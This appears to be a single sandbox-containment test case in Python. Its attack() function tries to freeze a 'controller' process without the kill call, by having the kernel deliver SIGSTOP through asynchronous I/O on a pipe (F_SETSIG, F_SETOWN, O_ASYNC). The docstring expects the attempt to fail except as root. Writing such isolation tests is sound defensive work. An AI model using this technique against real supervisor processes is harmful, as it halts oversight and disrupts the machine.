"""Has the kernel send a signal to the controller when a file of its own becomes readable.

Tries: to stop the controller without the call that sends signals.
Must: reach nobody.
Control: as root, stops the controller
Harms: the machine
"""

import fcntl
import signal

F_SETOWN, F_SETSIG, O_ASYNC = 8, 10, 0o20000


def attack():
    reader, writer = os.pipe()
    fcntl.fcntl(reader, F_SETSIG, int(signal.SIGSTOP))
    for process in [WORLD["controller"]]:
        quietly(fcntl.fcntl, reader, F_SETOWN, process)
        quietly(fcntl.fcntl, reader, fcntl.F_SETFL, O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
